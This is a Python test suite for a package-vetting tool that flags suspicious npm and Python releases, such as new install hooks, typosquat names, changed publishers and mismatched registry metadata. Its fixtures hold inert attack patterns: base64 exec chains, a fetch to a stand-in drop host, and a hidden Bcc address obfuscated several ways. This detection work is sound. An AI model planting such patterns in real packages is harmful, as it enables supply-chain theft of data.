#!/usr/bin/env python3
"""Releases made by code, vetted with the whole program: the decision, and the rules that found something.

    vet.py ASSAY

Everything is inert: the command is `true`, the host is `example.invalid`.
"""
import base64
import gzip
import hashlib
import io
import json
import os
import pathlib
import subprocess
import sys
import tarfile
import tempfile
import unittest
import unittest.mock
import zipfile

ASSAY = ""
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
PYC = b"\xcb\x0d\r\n" + bytes(12) + b"\xe3" + bytes(20)


def tar_gz(files, top):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in sorted(files.items()):
            data = data if isinstance(data, bytes) else data.encode()
            info = tarfile.TarInfo(f"{top}/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(out.getvalue(), mtime=0)


def npm(files, name="acme-words", version="1.0.0", **manifest):
    package = {"name": name, "version": version, "main": "index.js", **manifest}
    return tar_gz({"package.json": json.dumps(package), "index.js": "module.exports = 1;\n", **files}, "package")


def metadata(name, version, needs=()):
    return f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" + "".join(f"Requires-Dist: {n}\n" for n in needs)


def sdist(files, name="acme-words", version="1.0.0", needs=()):
    return tar_gz({"PKG-INFO": metadata(name, version, needs),
                   "setup.py": f"from setuptools import setup\nsetup(name='{name}', version='{version}')\n",
                   "acme_words/__init__.py": "x = 1\n", **files}, f"{name}-{version}")


def wheel(files, name="acme_words", version="1.0.0", needs=(), pure=True, scripts=""):
    out = io.BytesIO()
    info = f"{name}-{version}.dist-info"
    all_files = {"acme_words/__init__.py": "x = 1\n", **files, f"{info}/METADATA": metadata(name, version, needs),
                 f"{info}/WHEEL": f"Wheel-Version: 1.0\nRoot-Is-Purelib: {str(pure).lower()}\nTag: py3-none-any\n"}
    if scripts:
        all_files[f"{info}/entry_points.txt"] = "[console_scripts]\n" + scripts
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in all_files.items():
            archive.writestr(zipfile.ZipInfo(path), data)
    return out.getvalue()


ENDINGS = {npm: ".tgz", sdist: ".tar.gz", wheel: "-py3-none-any.whl"}


class Vetting(unittest.TestCase):
    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.folder = pathlib.Path(folder.name)

    def write(self, name, data):
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return str(path)

    def vet(self, *args):
        done = subprocess.run([ASSAY, "vet", "--format", "json", *args], capture_output=True, check=False)
        self.assertIn(done.returncode, (0, 1, 3), done.stderr)
        report = json.loads(done.stdout)
        counted = {f["rule"] for f in report["findings"] if f["verdict"] != "clean" and not f["accepted"]}
        return report, report["decision"], counted

    def update(self, make, old, new, decision, *rules, **more):
        """Vets `new` beside `old`; either is what `make` takes."""
        name = "acme_words-{}" + ENDINGS[make]
        before = self.write(name.format("1.0.0"), make(**{"version": "1.0.0", **old}))
        now = self.write(name.format("1.0.1"), make(**{"version": "1.0.1", **new}))
        report, got, counted = self.vet("--previous", before, now, *more.get("args", ()))
        self.assertEqual((got, counted), (decision, set(rules)), json.dumps(report["findings"], indent=1))
        return report

    def alone(self, make, what, decision, *rules):
        name = what.get("name", "acme_words").replace("/", "-").replace("-", "_")
        path = self.write(f"{name}-1.0.0" + ENDINGS[make], make(**what))
        report, got, counted = self.vet(path)
        self.assertEqual((got, counted), (decision, set(rules)), json.dumps(report["findings"], indent=1))


class Alone(Vetting):
    def test_nothing(self):
        for make in ENDINGS:
            self.alone(make, {"files": {}}, "allow")

    def test_compiled_code(self):
        self.alone(wheel, {"files": {"acme_words/fast.so": ELF}}, "hold", "python-native-in-pure-wheel")
        self.alone(wheel, {"files": {"acme_words/fast.so": ELF}, "pure": False}, "allow")
        self.alone(wheel, {"files": {"acme_words/logo.png": ELF}, "pure": False}, "hold", "program-disguised")
        self.alone(npm, {"files": {"lib/readme.txt": ELF}}, "hold", "program-disguised")

    def test_bytecode(self):
        self.alone(wheel, {"files": {"acme_words/more.pyc": PYC}}, "hold", "python-bytecode-alone")
        self.alone(wheel, {"files": {"acme_words/__pycache__/more.cpython-313.pyc": PYC}}, "allow")
        unchecked = PYC[:4] + b"\x01" + PYC[5:]
        self.alone(wheel, {"files": {"acme_words/__pycache__/more.cpython-313.pyc": unchecked}}, "hold",
                   "python-bytecode-alone")
        self.alone(wheel, {"files": {"acme_words/data.bin": PYC}}, "hold", "python-bytecode-alone")

    def test_names(self):
        for name in ["reqeusts", "requestss", "python-requests2", "urlib3", "djang0", "beautifulsoup-4", "py-numpy",
                     "numpy-py", "typing.extension"]:
            self.alone(sdist, {"files": {}, "name": name}, "hold" if name != "python-requests2" else "allow",
                       *(["release-name-near"] if name != "python-requests2" else []))
        for name in ["requests", "Requests", "typing_extensions", "acme-requests-helper"]:
            self.alone(sdist, {"files": {}, "name": name}, "allow")
        for name, near in [("lodahs", True), ("cross-envs", True), ("crossenv", True), ("lodash", False),
                           ("@acme/lodash", False), ("babel-core", False), ("chalk-js", True), ("node-express", True)]:
            self.alone(npm, {"files": {}, "name": name}, "hold" if near else "allow",
                       *(["release-name-near"] if near else []))

    def test_overwrites(self):
        self.alone(wheel, {"files": {"requests/__init__.py": "x = 1\n"}}, "hold", "release-overwrites")
        self.alone(wheel, {"files": {"tests/__init__.py": "x = 1\n"}}, "allow")
        self.alone(wheel, {"files": {}, "scripts": "pip = acme_words:main\n"}, "hold", "release-overwrites")
        self.alone(wheel, {"files": {}, "scripts": "acme-words = acme_words:main\n"}, "allow")
        self.alone(npm, {"files": {}, "bin": {"npx": "index.js"}}, "hold", "release-overwrites")

    def test_unreadable(self):
        path = self.write("acme_words-1.0.0.tar.gz", sdist({})[:-40])
        report, decision, _ = self.vet(path)
        self.assertEqual((decision, report["status"]), ("hold", "inconclusive"))

    def test_twins(self):
        self.alone(wheel, {"files": {"acme_words/Words.py": "x = 1\n", "acme_words/words.py": "x = 2\n"}}, "hold",
                   "release-member-twins", "zip-name-twin")
        data = io.BytesIO()
        with tarfile.open(fileobj=data, mode="w") as tar:
            for name in ("package/package.json", "package/a.js", "other/a.js"):
                info = tarfile.TarInfo(name)
                text = b'{"name": "acme-words", "version": "1.0.0"}' if "json" in name else f"'{name}';\n".encode()
                info.size = len(text)
                tar.addfile(info, io.BytesIO(text))
        path = self.write("acme_words-1.0.0.tgz", gzip.compress(data.getvalue()))
        self.assertEqual(self.vet(path)[1:], ("hold", {"release-member-twins"}))

    def test_two_views(self):
        data = io.BytesIO(wheel({}))
        with zipfile.ZipFile(data, "a") as archive:
            archive.writestr("acme_words/__init__.py", "x = 2\n")
        path = self.write("acme_words-1.0.0-py3-none-any.whl", data.getvalue())
        self.assertEqual(self.vet(path)[1], "block")


class Updates(Vetting):
    def test_nothing(self):
        for make in ENDINGS:
            self.update(make, {"files": {}}, {"files": {}}, "allow")
            self.update(make, {"files": {"a.txt": "a"}}, {"files": {"a.txt": "b", "c.txt": "d"}}, "allow")

    def test_hooks(self):
        hook = {"files": {"setup.js": "console.log(1);\n"}, "scripts": {"postinstall": "node setup.js"}}
        self.update(npm, {"files": {}}, hook, "hold", "release-new-hook")
        self.update(npm, hook, hook, "allow")
        moved = {"files": {"lib/setup.js": "console.log(1);\n"}, "scripts": {"postinstall": "node lib/setup.js"}}
        self.update(npm, hook, moved, "allow")
        other = {"files": {}, "scripts": {"postinstall": "npm install -g acme-agent"}}
        self.update(npm, hook, other, "hold", "release-new-hook")
        self.update(npm, {"files": {}}, {"files": {}, "scripts": {"prepare": "node build.js"}}, "allow")
        # What a hook runs by name is a hook.
        named = {"files": {}, "scripts": {"postinstall": "npm run fetch", "fetch": "node-gyp rebuild"}}
        self.update(npm, named, named, "allow")
        self.update(npm, named, {"files": {}, "scripts": {**named["scripts"], "fetch": "acme-fetch"}}, "hold",
                    "release-new-hook")
        for table in ("[tool.hatch.build.hooks.custom]\n", "[tool.hatch.build.targets.wheel.hooks.custom]\n",
                      "[tool.poetry.build]\nscript = 'build.py'\n", "[tool.poetry]\nbuild = 'build.py'\n"):
            self.update(sdist, {"files": {"pyproject.toml": ""}}, {"files": {"pyproject.toml": table}}, "hold",
                        "release-new-hook")
        self.update(npm, {"files": {}}, {"files": {"binding.gyp": "{}"}}, "hold", "release-new-hook")

    def test_start(self):
        self.update(wheel, {"files": {}}, {"files": {"acme.pth": "import acme_words\n"}}, "hold",
                    "release-new-start", "python-pth-executes")
        self.update(wheel, {"files": {}}, {"files": {"acme.pth": "../folder\n"}}, "allow")
        self.update(wheel, {"files": {}}, {"files": {"acme_words-1.0.1.data/purelib/acme.pth": "import acme_words\n"}},
                    "hold", "release-new-start", "python-pth-executes")
        both = {"files": {"acme.pth": "import acme_words\n"}}
        self.update(wheel, both, both, "allow")
        self.update(wheel, {"files": {"acme.pth": "../folder\n"}}, both, "hold", "release-new-start",
                    "python-pth-executes")
        self.update(wheel, {"files": {}}, {"files": {"usercustomize.py": "x = 1\n"}}, "hold", "release-new-start",
                    "python-sitecustomize")

    def test_needs(self):
        self.update(npm, {"files": {}}, {"files": {}, "dependencies": {"zzz-nobody": "1"}}, "hold",
                    "release-new-dependency")
        for needs in [{"lodash": "4"}, {"acme-words-core": "1"}]:
            self.update(npm, {"files": {}}, {"files": {}, "dependencies": needs}, "allow")
        needs = {"files": {}, "dependencies": {"zzz-nobody": "1"}}
        self.update(npm, needs, needs, "allow")
        self.update(npm, {"files": {}}, {"files": {}, "devDependencies": {"zzz-nobody": "1"}}, "allow")
        self.update(npm, {"files": {}}, {"files": {}, "peerDependencies": {"zzz-nobody": "1"},
                                         "peerDependenciesMeta": {"zzz-nobody": {"optional": True}}}, "allow")
        self.update(npm, {"files": {}}, {"files": {}, "optionalDependencies": {"lodash": "github:example/lodash#1"}},
                    "hold", "release-new-address-dependency")
        for make in (wheel, sdist):
            self.update(make, {"files": {}}, {"files": {}, "needs": ["zzz-nobody>=1"]}, "hold",
                        "release-new-dependency")
            self.update(make, {"files": {}}, {"files": {}, "needs": ["Requests>=2", "acme-words-core"]}, "allow")
            self.update(make, {"files": {}}, {"files": {}, "needs": ["zzz-nobody; extra == 'x'"]}, "allow")
            self.update(make, {"files": {}, "needs": ["zzz.Nobody"]}, {"files": {}, "needs": ["zzz-nobody>=1"]},
                        "allow")

    def test_addresses(self):
        old = {"files": {"lib/a.js": "exports.go = () => fetch('https://api.example.net/v1');\n"}}
        new = {"files": {"lib/a.js": "exports.go = () => fetch('https://drop.acme.invalid/v1');\n"}}
        self.update(npm, old, new, "hold", "release-new-host")
        known = {"files": {**old["files"], "README.md": "See https://docs.acme.invalid/.\n"}}
        self.update(npm, known, new, "allow")
        old = {"files": {"lib/m.js": "exports.send = (t, m) => t.sendMail({to: m.to, text: m.text});\n"}}
        new = {"files": {"lib/m.js": "exports.send = (t, m) => t.sendMail({to: m.to, Bcc: 'a@acme.invalid', "
                                     "text: m.text});\n"}}
        self.update(npm, old, new, "hold", "release-new-recipient")
        self.update(npm, new, new, "allow")
        self.update(npm, old, {"files": {"lib/m.js": old["files"]["lib/m.js"] + "// a@acme.invalid\n"}}, "allow")
        self.update(wheel, {"files": {}}, {"files": {"acme_words/mail.py": "def f(m):\n    m['Bcc'] = 'a@acme.invalid'\n"}},
                    "hold", "release-new-recipient")

    def test_addresses_that_are_put_together(self):
        mail, host = "a@acme.invalid", "https://drop.acme.invalid/v1"
        old = {"files": {"lib/m.js": "exports.send = (t, m) => t.sendMail({to: m.to, text: m.text});\n"}}
        for written in (f"'{mail[:4]}' + '{mail[4:]}'", f"atob('{base64.b64encode(mail.encode()).decode()}')",
                        f"Buffer.from('{mail.encode().hex()}', 'hex').toString()",
                        f"String.fromCharCode({','.join(str(ord(c)) for c in mail)})", f"['{mail[:1]}', '{mail[2:]}'].join('@')"):
            new = {"files": {"lib/m.js": old["files"]["lib/m.js"].replace("text:", f"bcc: {written}, text:")}}
            with self.subTest(written=written):
                self.update(npm, old, new, "hold", "release-new-recipient")
                self.update(npm, new, new, "allow")
        old = {"files": {"acme_words/go.py": "import requests\ndef go(x):\n    return requests.get(x)\n"}}
        for written in (f"'{host[:12]}' + '{host[12:]}'", f"bytes.fromhex('{host.encode().hex()}').decode()",
                        f"'{host[:9]}%s' % '{host[9:]}'", f"'{host[::-1]}'[::-1]"):
            new = {"files": {**old["files"], "acme_words/more.py": f"from .go import go\ndef f():\n    return go({written})\n"}}
            with self.subTest(written=written):
                self.update(wheel, old, new, "hold", "release-new-host")

    def test_addresses_for_other_files(self):
        go = {"lib/go.js": "exports.go = a => fetch(a);\n"}
        old = {"lib/a.js": "exports.f = go => go('https://api.example.net/v1');\n"}
        new = {"lib/a.js": "exports.f = go => go('https://drop.acme.invalid/v1');\n"}
        self.update(npm, {"files": {**go, **old}}, {"files": {**go, **new}}, "hold", "release-new-host")
        self.update(npm, {"files": old}, {"files": new}, "allow")        # nothing in it calls anybody
        said = {"lib/a.js": "exports.f = () => { throw Error('see https://docs.acme.invalid/e1 for more') };\n"}
        self.update(npm, {"files": {**go, **old}}, {"files": {**go, **said}}, "allow")
        schema = {"lib/a.js": "exports.f = d => d.createElementNS('http://www.w3.org/2000/svg', 'path');\n"}
        self.update(npm, {"files": {**go, **old}}, {"files": {**go, **schema}}, "allow")

    def test_programs(self):
        self.update(npm, {"files": {}}, {"files": {"bin/tool": ELF}}, "hold", "release-new-program")
        self.update(npm, {"files": {"bin/tool": ELF}}, {"files": {"bin/tool": ELF + b"1"}}, "allow")
        self.update(npm, {"files": {"bin/tool": ELF}}, {"files": {"bin/tool": ELF, "bin/more": ELF + b"1"}}, "allow")
        library = {"files": {"acme_words/fast.so": ELF}, "pure": False}
        more = {"files": {"acme_words/fast.so": ELF, "acme_words/more.so": ELF + b"1"}, "pure": False}
        program = {"files": {"acme_words/fast.so": ELF, "acme_words/run": ELF + b"1"}, "pure": False}
        self.update(wheel, {"files": {}, "pure": False}, library, "hold", "release-new-program")
        self.update(wheel, library, more, "allow")
        self.update(wheel, library, program, "hold", "release-new-program")

    def test_shapes(self):
        plain = {"files": {"lib/a.js": "".join(f"exports.word{i} = '{i}';\n" for i in range(40))}}
        hidden = {"files": {"lib/a.js": "".join(f"var _0x{i:04x}ab = '{i}';\n" for i in range(40))}}
        self.update(npm, plain, hidden, "hold", "release-obfuscated", "release-new-capability", "javascript-hidden-source")
        self.update(npm, hidden, hidden, "allow")
        more = {"files": {"lib/a.js": hidden["files"]["lib/a.js"] + "exports.more = 1;\n"}}
        self.update(npm, hidden, more, "allow")
        packed = {"files": {"index.js": "exports.f = () => 1; " * 5000}}
        self.update(npm, plain, packed, "hold", "release-obfuscated")
        self.update(npm, packed, {"files": {"index.js": "exports.f = () => 2; " * 5000}}, "allow")
        self.update(npm, plain, {"files": {"dist/page.min.js": packed["files"]["index.js"]}}, "allow")
        text = base64.b64encode(hashlib.sha512(b"").digest() * 60).decode().replace("=", "")
        self.update(wheel, {"files": {}}, {"files": {"acme_words/data.py": f"data = '{text}'\n" + "x = 1\n" * 40}}, "hold",
                    "release-obfuscated")
        escaped = "".join(f"\\x{b:02x}" for b in b"nothing to see here " * 40)
        self.update(npm, plain, {"files": {"lib/a.js": f"exports.text = '{escaped}';\n"}}, "hold", "release-obfuscated",
                    "release-new-capability", "javascript-hidden-source")
        program = "".join(f"exports.word{i} = {i};\n" for i in range(20000))
        self.update(wheel, {"files": {}}, {"files": {"acme_words/run.js": program}}, "hold", "release-obfuscated")
        self.update(npm, plain, {"files": {"lib/run.js": program}}, "allow")

    def test_findings_of_before_do_not_count(self):
        old = {"files": {"acme_words/more.pyc": PYC}}
        report = self.update(wheel, old, {"files": {"acme_words/more.pyc": PYC + b"1"}}, "allow")
        accepted = [f for f in report["findings"] if f["rule"] == "python-bytecode-alone"]
        self.assertEqual([f["accepted"]["by"] for f in accepted], ["baseline"])

    def test_what_did_not_change_is_not_read(self):
        broken = {"files": {"acme_words/data.npy": b"\x93NUMPY\x01\x00"}}
        self.update(wheel, broken, broken, "allow")
        report = self.update(wheel, broken, {"files": {"acme_words/data.npy": b"\x93NUMPY\x01\x00\x00"}}, "hold")
        self.assertEqual(report["status"], "inconclusive")

    def test_tests_weigh_less(self):
        self.update(wheel, {"files": {}}, {"files": {"acme_words/tests/more.pyc": PYC}}, "allow")
        self.update(wheel, {"files": {}}, {"files": {"acme_words/tests/bad.npy": b"\x93NUMPY\x01\x00"}}, "allow")
        self.update(wheel, {"files": {}}, {"files": {"acme_words/tests/bad.py": "x = '\n\x01"}}, "hold")


HIDDEN = base64.b64encode(b"import os\nos.system('true')\n").decode()
DECODED = f"import base64\nexec(base64.b64decode('{HIDDEN}'))\n"
SPAWN = "import subprocess\n\n\ndef f(x):\n    subprocess.run(['true', x])\n"


class Capabilities(Vetting):
    def rules_of(self, make, old, new, decision):
        name = "acme_words-{}" + ENDINGS[make]
        before = self.write(name.format("1.0.0"), make(**{"version": "1.0.0", **old}))
        now = self.write(name.format("1.0.1"), make(**{"version": "1.0.1", **new}))
        report, got, counted = self.vet("--previous", before, now)
        self.assertEqual(got, decision, json.dumps(report["findings"], indent=1))
        return counted

    def test_chains(self):
        new = {"files": {"acme_words/words.py": DECODED}}
        for make in (wheel, sdist):
            self.assertIn("release-new-chain", self.rules_of(make, {"files": {}}, new, "block"))
            self.assertEqual(self.rules_of(make, new, new, "allow"), set())
        script = {"files": {"lib/a.js": "eval(Buffer.from('dHJ1ZQ==', 'base64').toString());\n"}}
        self.assertIn("release-new-chain", self.rules_of(npm, {"files": {}}, script, "block"))
        # In what runs when it is called the delta alone holds; in tests it weighs less.
        inner = {"files": {"acme_words/words.py": "import base64\n\n\ndef f():\n    exec(base64.b64decode("
                                                  f"'{HIDDEN}'))\n"}}
        self.assertIn("release-new-capability", self.rules_of(wheel, {"files": {}}, inner, "block"))
        aside = {"files": {"acme_words/tests/words.py": DECODED}}
        self.assertNotIn("release-new-chain", self.rules_of(wheel, {"files": {}}, aside, "hold"))

    def test_moments(self):
        at_import = {"files": {"acme_words/run.py": SPAWN + "f('x')\n"}}
        used = {"files": {"acme_words/run.py": SPAWN}}
        self.assertEqual(self.rules_of(wheel, {"files": {}}, used, "allow"), set())
        both = {"files": {"acme_words/run.py": "import socket, subprocess\nsubprocess.run(['true'])\n"
                                               "socket.create_connection(('acme.invalid', 1))\n"}}
        self.assertIn("release-new-capability", self.rules_of(wheel, {"files": {}}, both, "hold"))
        self.assertIn("release-new-capability", self.rules_of(wheel, used, both, "hold"))
        self.assertEqual(self.rules_of(wheel, both, both, "allow"), set())
        self.assertEqual(self.rules_of(wheel, at_import, at_import, "allow"), set())

    def test_installation(self):
        setup = "from setuptools import setup\nimport socket\n{}setup(name='acme-words', version='1.0.1')\n"
        connect = "socket.create_connection(('acme.invalid', 1))\n"
        self.assertIn("release-new-capability", self.rules_of(sdist, {"files": {}},
                                                              {"files": {"setup.py": setup.format(connect)}}, "hold"))
        hook = {"scripts": {"postinstall": "node setup.js"}}
        old = {"files": {"setup.js": "console.log(1);\n"}, **hook}
        new = {"files": {"setup.js": "require('child_process').execSync('true');\n"}, **hook}
        self.assertIn("release-new-capability", self.rules_of(npm, old, new, "hold"))

    def test_agents(self):
        new = {"files": {"lib/a.js": "require('fs').writeFileSync('.claude/settings.json', '{}');\n"}}
        self.assertIn("release-new-capability", self.rules_of(npm, {"files": {}}, new, "hold"))


class Answers(Vetting):
    def test_explain(self):
        path = self.write("acme_words-1.0.0.tar.gz",
                          sdist({"acme_words/run.py": "import subprocess\ndef f():\n    subprocess.run(['true'])\n"}))
        report, _, _ = self.vet("--explain", path)
        self.assertEqual([(b["when"], b["class"], b["line"]) for b in report["behaviours"]], [("use", "spawn", 3)])
        report, _, _ = self.vet(path)
        self.assertNotIn("behaviours", report)
        text = subprocess.run([ASSAY, "vet", "--explain", path], capture_output=True, text=True, check=False).stdout
        self.assertIn("starts a program, when it is used", text)

    def test_advisory(self):
        to = self.folder / "advisory.json"
        old = {"files": {"lib/a.js": "exports.go = 1;\n"}}
        self.update(npm, old, old, "allow", args=["--advisory", str(to)])
        self.assertFalse(to.exists())
        new = {"files": {"lib/a.js": "exports.go = () => fetch('https://drop.acme.invalid/v1');\n"}}
        self.update(npm, old, new, "hold", "release-new-host", args=["--advisory", str(to)])
        record = json.loads(to.read_text())
        self.assertEqual(record["affected"], [{"package": {"ecosystem": "npm", "name": "acme-words"},
                                               "versions": ["1.0.1"]}])
        self.assertEqual(record["database_specific"], {"iocs": {"domains": ["drop.acme.invalid"]}})
        self.assertNotIn("id", record)
        self.assertIn("lib/a.js, line 1", record["details"])
        self.assertNotIn(str(self.folder), to.read_text())


class Sources(Vetting):
    def built(self, make, what, source, decision, *rules):
        path = self.write("acme_words-1.0.0" + ENDINGS[make], make(**what))
        of = self.write("source.tar.gz", source if isinstance(source, bytes) else tar_gz(source, "acme-words-1.0.0"))
        report, got, counted = self.vet("--source", of, path)
        self.assertEqual((got, counted), (decision, set(rules)), json.dumps(report["findings"], indent=1))
        return {f["rule"] for f in report["findings"]}

    def test_wheels(self):
        spawn = "import subprocess\nsubprocess.run(['true'])\n"
        self.built(wheel, {"files": {}}, sdist({}), "allow")
        self.built(wheel, {"files": {"acme_words/a.py": spawn}}, sdist({"acme_words/a.py": spawn}), "allow")
        self.built(wheel, {"files": {"acme_words/a.py": spawn}}, sdist({"src/acme_words/a.py": spawn}), "allow")
        self.built(wheel, {"files": {"acme_words/a.py": spawn}}, sdist({"acme_words/a.py": "x = 1\n"}), "hold",
                   "release-not-in-source")
        self.built(wheel, {"files": {"acme_words/a.py": spawn}}, sdist({}), "hold", "release-not-in-source")
        rules = self.built(wheel, {"files": {"acme_words/_version.py": "version = '1.0.0'\n"}}, sdist({}), "allow")
        self.assertIn("release-not-in-source", rules)
        self.built(wheel, {"files": {"acme.pth": "import acme_words\n"}}, sdist({}), "hold", "release-not-in-source",
                   "python-pth-executes")

    def test_npm(self):
        manifest = json.dumps({"name": "acme-words", "version": "1.0.0", "main": "index.js"})
        source = {"package.json": manifest, "index.js": "module.exports = 1;\n"}
        self.built(npm, {"files": {}}, source, "allow")
        build = {**source, "m4/host.m4": "dnl a macro\n"}
        self.built(npm, {"files": {"m4/host.m4": "dnl a macro\n"}}, build, "allow")
        self.built(npm, {"files": {"m4/host.m4": "dnl another\n"}}, build, "hold", "release-not-in-source")
        self.built(npm, {"files": {"m4/more.m4": "dnl generated\n"}}, build, "allow")
        self.built(npm, {"files": {"dist/bundle.js": "fetch('https://example.invalid/')\n"}}, source, "allow")
        self.built(npm, {"files": {"a.js": "1;\n"}, "scripts": {"postinstall": "node a.js"}}, source, "hold",
                   "release-not-in-source")


def packument(**versions):
    """{version: changes of its manifest} as a registry shows them."""
    manifests = {}
    for version, changes in versions.items():
        version = version.strip("v").replace("_", ".")
        manifests[version] = {"name": "acme-words", "version": version, "main": "index.js",
                              "_npmUser": {"name": "ann", "email": "ann@example.invalid"},
                              "maintainers": [{"name": "ann", "email": "ann@example.invalid"},
                                              {"name": "bob", "email": "bob@example.invalid"}],
                              "repository": {"type": "git", "url": "git+https://example.invalid/acme/words.git"},
                              "dist": {}, **changes}
    return {"name": "acme-words", "versions": manifests,
            "time": {version: f"2026-01-0{i + 1}T00:00:00+00:00" for i, version in enumerate(manifests)}}


class Registries(Vetting):
    def against(self, document, old, new, decision, *rules, args=(), make=npm):
        data = document if isinstance(document, bytes) else json.dumps(document).encode()
        path = self.write("metadata.json", data)
        return self.update(make, old, new, decision, *rules, args=("--metadata", path, *args))

    def test_same(self):
        self.against(packument(v1_0_0={}, v1_0_1={}), {"files": {}}, {"files": {}}, "allow")

    def test_archive_is_another(self):
        both = packument(v1_0_0={}, v1_0_1={})
        nothing = {"files": {}}
        self.against(both, nothing, {"files": {}, "dependencies": {"lodash": "4"}}, "hold", "release-metadata-differ")
        self.against(both, nothing, {"files": {"a.js": ""}, "scripts": {"postinstall": "node a.js"}}, "hold",
                     "release-metadata-differ", "release-new-hook")
        self.against(packument(v1_0_0={}, v1_0_1={"scripts": {"install": "node b.js"}}), nothing, nothing, "hold",
                     "release-metadata-differ")
        self.against(both, nothing, {"files": {}, "bin": {"words-cli": "index.js"}}, "hold", "release-metadata-differ")
        self.against(packument(v1_0_0={}), nothing, nothing, "hold", "release-metadata-differ")
        other = packument(v1_0_1={"name": "acme-other"})
        self.against(other, nothing, nothing, "hold", "release-metadata-differ")
        named = {"scripts": {"postinstall": "npm run fetch", "fetch": "node-gyp rebuild"}}
        self.against(packument(v1_0_0=named, v1_0_1=named), {"files": {}, **named}, {"files": {}, **named}, "allow")
        # What the registry's own tools put in is no difference.
        gyp = {"files": {"binding.gyp": "{}"}}
        self.against(packument(v1_0_0={}, v1_0_1={"scripts": {"install": "node-gyp rebuild"}}), gyp, gyp, "allow")

    def test_digest(self):
        data = npm({}, version="1.0.1")
        right = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
        self.against(packument(v1_0_1={"dist": {"integrity": right}}), {"files": {}}, {"files": {}}, "allow")
        wrong = "sha512-" + base64.b64encode(hashlib.sha512(b"").digest()).decode()
        self.against(packument(v1_0_1={"dist": {"integrity": wrong}}), {"files": {}}, {"files": {}}, "hold",
                     "release-metadata-differ")

    def test_publishers(self):
        def by(**user):
            return packument(v1_0_0={}, v1_0_1={"_npmUser": user})
        nothing = {"files": {}}
        self.against(by(name="eve", email="eve@example.invalid"), nothing, nothing, "hold", "release-publisher-changed")
        self.against(by(name="bob", email="bob@example.invalid"), nothing, nothing, "allow")
        self.against(by(name="ann", email="other@example.invalid"), nothing, nothing, "hold",
                     "release-publisher-changed")
        trusted = {"_npmUser": {"name": "GitHub Actions", "trustedPublisher": {"id": "github"}}}
        self.against(packument(v1_0_0={}, v1_0_1=trusted), nothing, nothing, "allow")
        self.against(packument(v1_0_0=trusted, v1_0_1={}), nothing, nothing, "hold", "release-attestation-lost")
        attested = {"dist": {"attestations": {"url": "https://example.invalid/"}}}
        self.against(packument(v1_0_0=attested, v1_0_1={}), nothing, nothing, "hold", "release-attestation-lost")
        self.against(packument(v1_0_0=attested, v1_0_1=attested), nothing, nothing, "allow")

    def test_sources(self):
        moved = packument(v1_0_0={}, v1_0_1={"repository": "https://example.invalid/eve/words"})
        report = self.against(moved, {"files": {}}, {"files": {}}, "allow")
        self.assertIn("release-source-changed", {f["rule"] for f in report["findings"]})

    def test_age(self):
        environment = {"SOURCE_DATE_EPOCH": "1767571200"}                  # 2026-01-05
        with unittest.mock.patch.dict(os.environ, environment):
            nothing = {"files": {}}
            both = packument(v1_0_0={}, v1_0_1={})                         # of 2026-01-02
            self.against(both, nothing, nothing, "hold", "release-young-dependency", args=["--min-age", "4"])
            self.against(both, nothing, nothing, "allow", args=["--min-age", "2"])
            young = packument(v1_0_0={"name": "lodash"})
            young["name"] = "lodash"
            needs = {"files": {}, "dependencies": {"lodash": "1"}}
            path = self.write("lodash.json", json.dumps(young).encode())
            self.against(packument(v1_0_0={}, v1_0_1={"dependencies": {"lodash": "1"}}), nothing, needs, "hold",
                         "release-young-dependency", args=["--metadata", path])

    def test_python(self):
        def index(**changes):
            info = {"name": "acme-words", "version": "1.0.1", "requires_dist": None, **changes}
            return {"info": info, "urls": [], "releases": {}}
        nothing = {"files": {}}
        self.against(index(), nothing, nothing, "allow", make=wheel)
        self.against(index(requires_dist=["Requests>=2"]), nothing, {"files": {}, "needs": ["requests>=2"]}, "allow",
                     make=wheel)
        self.against(index(requires_dist=[]), nothing, {"files": {}, "needs": ["requests>=2"]}, "hold",
                     "release-metadata-differ", make=wheel)
        self.against(metadata("acme-words", "1.0.1").encode(), nothing, {"files": {}, "needs": ["requests>=2"]}, "hold",
                     "release-metadata-differ", make=wheel)
        data = wheel({}, version="1.0.1")
        simple = {"meta": {"api-version": "1.1"}, "name": "acme-words",
                  "files": [{"filename": "acme_words-1.0.0-py3-none-any.whl", "hashes": {}, "provenance": "https://x/"},
                            {"filename": "acme_words-1.0.1-py3-none-any.whl",
                             "hashes": {"sha256": hashlib.sha256(data).hexdigest()}}]}
        self.against(simple, nothing, nothing, "hold", "release-attestation-lost", make=wheel)
        simple["files"][1]["hashes"]["sha256"] = "00" * 32
        simple["files"][1]["provenance"] = "https://x/"
        self.against(simple, nothing, nothing, "hold", "release-metadata-differ", make=wheel)

    def test_broken(self):
        for data in (b"{", b"[]", b"{}", b"nothing"):
            path = self.write("metadata.json", data)
            archive = self.write("acme_words-1.0.0.tgz", npm({}))
            done = subprocess.run([ASSAY, "vet", "--metadata", path, archive], capture_output=True, check=False)
            self.assertEqual(done.returncode, 2, data)


if __name__ == "__main__":
    ASSAY = sys.argv.pop(1)
    unittest.main()
